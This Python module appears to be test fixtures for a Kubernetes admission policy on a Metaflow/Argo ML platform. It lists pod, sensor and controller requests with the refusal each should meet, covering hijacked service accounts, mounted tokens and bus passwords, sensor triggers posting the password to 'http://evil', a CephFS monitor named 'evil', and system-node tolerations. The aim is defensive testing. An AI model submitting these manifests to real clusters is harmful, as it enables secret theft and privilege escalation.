"""What somebody who may run flows, or a task, could try against the platform; each a step of its own."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from rehearsal.cloud.kubernetes.admission import Request

Manifest = dict[str, Any]

NAMESPACE = "ml-jobs"
"""Of tasks, as `platform.toml` says."""
UNCOUNTED = "ml-jobs-events"
BUS = "eventbus-default-js-server"
TOKEN = "argo-workflow-executor.service-account-token"
EXECUTOR = "quay.io/argoproj/argoexec:v3.7.11"
JOBS = "system:serviceaccount:kube-system:job-controller"
WORKFLOWS = "system:serviceaccount:argo:workflow-controller"
JOBSET = "system:serviceaccount:argo:jobset-controller"


@dataclass(frozen=True, kw_only=True)
class Attempt:
    what: str
    request: Request
    refused: str | None
    """What the refusal says, in part; None where it is admitted, for docs/security.md says why."""


def attempts() -> Iterator[Attempt]:
    for (user, what), (refused, spec) in (PODS | _admitted()).items():
        labels = spec.pop("labels", {})
        yield Attempt(what=what, request=pod(user, labels, **spec), refused=refused)
    for what, (refused, spec) in SENSORS.items():
        yield Attempt(what=f"a sensor {what}", request=sensor(SENSOR | spec), refused=refused)
    for what, (refused, request) in CONTROLLERS.items():
        yield Attempt(what=what, request=request, refused=refused)


def pod(user: str, labels: dict[str, str] | None = None, **spec: Any) -> Request:
    """Made by a controller: of jobs (JobSets end there, too), or of workflows."""
    owner = {"controller": True, "kind": "Workflow" if user == WORKFLOWS else "Job"}
    whole = {"serviceAccountName": "metaflow-tasks", "containers": [_container()]} | spec
    return Request(
        user=user,
        operation="CREATE",
        resource="pods",
        namespace=NAMESPACE,
        object={"metadata": {"labels": labels or {}, "ownerReferences": [owner]}, "spec": whole},
    )


def sensor(spec: Manifest) -> Request:
    return Request(
        user="ada@example.com",
        operation="CREATE",
        group="argoproj.io",
        resource="sensors",
        namespace=NAMESPACE,
        object={"metadata": {}, "spec": spec},
    )


def _container(**parts: Any) -> Manifest:
    return {"name": "main", "image": "python:3.11"} | parts


def _with_variable(**source: Any) -> Manifest:
    return _container(env=[{"name": "X", "valueFrom": source}])


def _volume(**source: Any) -> list[Manifest]:
    return [{"name": "it", **source}]


_HOLDS_TOKEN = _volume(secret={"secretName": TOKEN})
_MOUNTS = [{"name": "it", "mountPath": "/it"}]
_OF_REF = {"secretKeyRef": {"name": BUS, "key": "auth"}}
_ARGOS = {"image": EXECUTOR, "volumeMounts": _MOUNTS}

_ACCOUNT, _SECRET, _LABELS, _NODES = (
    "pods here run as",
    "a Secret of the platform",
    "the labels",
    "the scheduler places",
)
_GIVEN, _ARGO_ONLY = "would be given a Secret", "only Argo's own containers"

PODS: dict[tuple[str, str], tuple[str | None, Manifest]] = {
    (JOBS, "runs as the sensors' account"): (_ACCOUNT, {"serviceAccountName": "metaflow-sensor"}),
    (JOBS, "runs as the account of bus and webhook"): (_ACCOUNT, {"serviceAccountName": "metaflow-events"}),
    (JOBS, "runs as Argo's executor"): (_ACCOUNT, {"serviceAccountName": "argo-workflow-executor"}),
    (JOBS, "runs as whoever removes the sensors"): (_ACCOUNT, {"serviceAccountName": "metaflow-events-removal"}),
    (WORKFLOWS, "a workflow runs as the sensors' account"): (_ACCOUNT, {"serviceAccountName": "metaflow-sensor"}),
    (WORKFLOWS, "a workflow runs the team's image as the executor"): (
        _ACCOUNT,
        {"serviceAccountName": "argo-workflow-executor", "automountServiceAccountToken": True},
    ),
    (JOBS, "mounts the bus's password"): (_SECRET, {"volumes": _volume(secret={"secretName": BUS})}),
    (JOBS, "mounts it among others"): (
        _SECRET,
        {"volumes": _volume(projected={"sources": [{"secret": {"name": BUS}}]})},
    ),
    (JOBS, "has it in a variable"): (_SECRET, {"containers": [_with_variable(**_OF_REF)]}),
    (JOBS, "has it in variables"): (_SECRET, {"containers": [_container(envFrom=[{"secretRef": {"name": BUS}}])]}),
    (JOBS, "has it in a container before"): (_SECRET, {"initContainers": [_with_variable(**_OF_REF)]}),
    (JOBS, "pulls its image with it"): (_GIVEN, {"imagePullSecrets": [{"name": BUS}]}),
    (JOBS, "has CephFS send it to a server of its own"): (
        _GIVEN,
        {"volumes": _volume(cephfs={"monitors": ["evil"], "secretRef": {"name": BUS}})},
    ),
    (JOBS, "has a driver take it"): (
        _GIVEN,
        {"volumes": _volume(csi={"driver": "any", "nodePublishSecretRef": {"name": BUS}})},
    ),
    (JOBS, "mounts Helm's record of the events"): (
        _SECRET,
        {"volumes": _volume(secret={"secretName": "sh.helm.release.v1.metaflow-events.v1"})},
    ),
    (JOBS, "mounts the token of Argo's containers"): (_SECRET, {"volumes": _HOLDS_TOKEN}),
    (WORKFLOWS, "a workflow mounts the bus's password"): (_SECRET, {"volumes": _volume(secret={"secretName": BUS})}),
    (WORKFLOWS, "a workflow mounts the token into a task"): (
        _ARGO_ONLY,
        {"volumes": _HOLDS_TOKEN, "containers": [_container(**_ARGOS), _container(volumeMounts=_MOUNTS)]},
    ),
    (WORKFLOWS, "a workflow shares processes with Argo's containers"): (
        _ARGO_ONLY,
        {
            "volumes": _HOLDS_TOKEN,
            "containers": [_container(**_ARGOS), _container()],
            "shareProcessNamespace": True,
        },
    ),
    (JOBS, "takes the webhook's place"): (
        _LABELS,
        {"labels": {"controller": "eventsource-controller", "eventsource-name": "argo-events-webhook"}},
    ),
    (JOBS, "takes the bus's place"): (_LABELS, {"labels": {"eventbus-name": "default"}}),
    (WORKFLOWS, "a workflow gets to the bus as a sensor"): (_LABELS, {"labels": {"controller": "sensor-controller"}}),
    (JOBS, "gets onto the platform's nodes"): (
        _NODES,
        {"tolerations": [{"key": "components.gke.io/gke-managed-components", "operator": "Exists"}]},
    ),
    (JOBS, "gets onto every node"): (_NODES, {"tolerations": [{"operator": "Exists"}]}),
    (JOBS, "names its node"): (_NODES, {"nodeName": "gke-system-1"}),
    (JOBS, "pushes others off their nodes"): ("priority classes", {"priorityClassName": "system-cluster-critical"}),
    (JOBS, "takes the class that the quota leaves out"): ("priority classes", {"priorityClassName": UNCOUNTED}),
    (WORKFLOWS, "a workflow takes it"): ("priority classes", {"priorityClassName": UNCOUNTED}),
}


def _admitted() -> dict[tuple[str, str], tuple[None, Manifest]]:
    """Of the same kind, and what people do."""
    return {
        (JOBS, "a task"): (None, {}),
        (JOBS, "a pod of no account"): (None, {"serviceAccountName": "default"}),
        (JOBS, "a task with a Secret of the team"): (None, {"volumes": _volume(secret={"secretName": "wandb"})}),
        (JOBS, "a task with labels"): (None, {"labels": {"controller": "mine", "team": "vision"}}),
        (JOBS, "a task with a priority class of the team"): (None, {"priorityClassName": "urgent"}),
        (JOBS, "a task on GPUs"): (None, {"tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists"}]}),
        (WORKFLOWS, "a task between Argo's containers"): (
            None,
            {"volumes": _HOLDS_TOKEN, "initContainers": [_container(**_ARGOS)]},
        ),
        (WORKFLOWS, "what makes a JobSet"): (
            None,
            {
                "serviceAccountName": "argo-workflow-executor",
                "volumes": _HOLDS_TOKEN,
                "containers": [_container(**_ARGOS)],
            },
        ),
    }


_TRIGGER: Manifest = {
    "template": {"name": "it", "k8s": {"operation": "create", "source": {"resource": {"kind": "Workflow"}}}}
}
SENSOR: Manifest = {
    "template": {"serviceAccountName": "metaflow-sensor", "container": {"name": "main", "env": None}},
    "dependencies": [{"name": "it", "filters": {"exprs": []}}],
    "triggers": [_TRIGGER],
}
_POD, _TRIGGERS, _SCRIPTS = "a sensor's pod gets no", "a sensor's triggers make", "a sensor runs no scripts"
_SENDS = {"template": {"name": "it", "http": {"url": "http://evil", "basicAuth": {"password": {"name": BUS}}}}}
_FROM_GIT = {"name": "it", "k8s": {"source": {"git": {"creds": {"password": {"name": BUS}}}}}}


@dataclass(frozen=True)
class _Of:
    """A sensor's template with something more."""

    parts: Manifest = field(default_factory=dict)

    @property
    def spec(self) -> Manifest:
        return {"template": SENSOR["template"] | self.parts}


SENSORS: dict[str, tuple[str | None, Manifest]] = {
    "as Metaflow makes it": (None, {}),
    "that sends the bus's password away": (_TRIGGERS, {"triggers": [_SENDS]}),
    "that does so when another trigger fails": (_TRIGGERS, {"triggers": [_TRIGGER | {"dlqTrigger": _SENDS}]}),
    "that takes it for git": (_TRIGGERS, {"triggers": [{"template": _FROM_GIT}]}),
    "that runs as a task": ("sensors run as", _Of({"serviceAccountName": "metaflow-tasks"}).spec),
    "that mounts it": (_POD, _Of({"volumes": _volume(secret={"secretName": BUS})}).spec),
    "that has it in variables": (_POD, _Of({"container": {"envFrom": [{"secretRef": {"name": BUS}}]}}).spec),
    "that the quota leaves out": (_POD, _Of({"priorityClassName": UNCOUNTED}).spec),
    "that comes before everybody": (_POD, _Of({"priorityClassName": "system-node-critical"}).spec),
    "that filters by a script": (_SCRIPTS, {"dependencies": [{"name": "it", "filters": {"script": "os.execute()"}}]}),
    "that changes events by a script": (_SCRIPTS, {"dependencies": [{"name": "it", "transform": {"script": "os"}}]}),
}


def _by_jobset(resource: str, group: str, namespace: str) -> Request:
    return Request(
        user=JOBSET,
        operation="CREATE",
        group=group,
        resource=resource,
        namespace=namespace,
        object={"metadata": {}, "spec": {}},
    )


CONTROLLERS: dict[str, tuple[str | None, Request]] = {
    "JobSet's controller starts a job where the database's password is": (
        "works in ml-jobs only",
        _by_jobset("jobs", "batch", "metaflow"),
    ),
    "JobSet's controller starts a job in kube-system": (
        "works in ml-jobs only",
        _by_jobset("jobs", "batch", "kube-system"),
    ),
    "JobSet's controller claims a volume": ("claims no volumes", _by_jobset("persistentvolumeclaims", "", NAMESPACE)),
    "JobSet's controller starts the pods of a step": (None, _by_jobset("jobs", "batch", NAMESPACE)),
}
